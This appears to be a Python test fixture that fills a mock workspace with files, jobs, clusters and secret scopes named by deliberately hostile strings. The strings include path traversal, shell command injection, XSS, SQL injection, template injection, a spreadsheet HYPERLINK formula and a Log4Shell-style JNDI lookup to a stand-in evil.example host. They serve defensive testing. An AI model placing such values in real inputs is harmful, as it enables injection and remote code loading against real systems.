"""Names that somebody chose to do harm, or that harm by themselves; and an estate in which everything is called so."""

from __future__ import annotations

from pathlib import Path
from typing import Final

from tests.estates import HEADER, Estate

MARK: Final = "evil"  # in every name that has room for it, so that a file that came of one is known by it
ESC: Final = "\x1b"
# Each by what it tries. A name in a folder has no slash; with them, those below are names of what has no path.
NAMES: Final = (
    *("..evil", "...", "..%2f..%2fevil", "..\\..\\evil", "%2e%2e%2fevil"),
    *("C:evil", "C:\\evil", "\\\\host\\share\\evil", "~", "~root", "~evil"),
    *("CON", "AUX", "NUL.txt", "COM1", "LPT1.evil", "evil.", "evil ", " evil", "evil:stream", "evil\u00a0"),
    *(
        "evil\nname",
        "evil\rname",
        "evil\tname",
        f"evil{ESC}[2J{ESC}[1;1H",
        f"evil{ESC}]0;title\x07",
        "evil\x07\x08\x7f",
    ),
    *("evil\x9b31m", "evil\u202egnp.exe", "evil\u2066x\u2069", "evil\u200bname", "\ufeffevil", "evil\u2028line"),
    *("e\u0301vil", "\u00e9vil", "\u1e69\u0323evil", "evil\U0001f6a2", "\U000e0065evil", "ev\u0456l"),
    *("$(touch evil)", "`touch evil`", "evil; touch evil", "evil|touch evil", "${evil}", "evil && touch evil"),
    *("%s%n%d evil", "{0}{evil}", "{{7*7}}evil", "{% raw %}evil", "#{7*7}evil", "${jndi:ldap://evil.example/a}"),
    *("<script>evil()</script>", '"><img src=x onerror=evil()>', "</script><b>evil", "<!-- evil", "&lt;evil&gt;"),
    *('=HYPERLINK("http://evil.example")', "+evil", "-evil", "@evil", "--help evil", "'; DROP TABLE item; -- evil"),
    *("evil" * 63 + "end", "null", "true", "-1", "*evil?[a-z]", "evil.ipynb", ".evil", "evil.lock", "ledger.db"),
)
SLASHED: Final = ("../../evil", "/etc/evil", "/var/evil/../evil", "a/../../../evil", "//host/share/evil", "evil/")
EVA: Final = "eva@evil.example"


def build(folder: Path) -> Path:
    """An estate in `folder`: notebooks, folders and files, scopes and keys, groups, jobs, clusters with tags."""
    made = Estate(folder, "evil", 7405600000006666, EVA)
    names = [*NAMES, *SLASHED]
    made.people(names, member=True, shown="<b>evil</b>")
    made.folders()
    for at, name in enumerate(NAMES):
        made.node(f"/Shared/{name}", "DIRECTORY")
        made.notebook(f"/Shared/{name}/n{at}", HEADER + b"1")
        made.notebook(f"/Users/{EVA}/{name}", HEADER + name.encode())
        made.node(f"/Shared/{name}/f {name}", "FILE", name.encode())
    for at, name in enumerate(names):
        if at % 3 == 0:
            made.cluster(at, cluster_name=name, custom_tags={name: name})
        made.job(at, {"name": name, "tags": {name[:127]: "x"}})
        if "/" not in name and len(name) <= 128:
            made.scope(name, {name: f"canary-of-{at}".encode()}, {})
    return made.done()
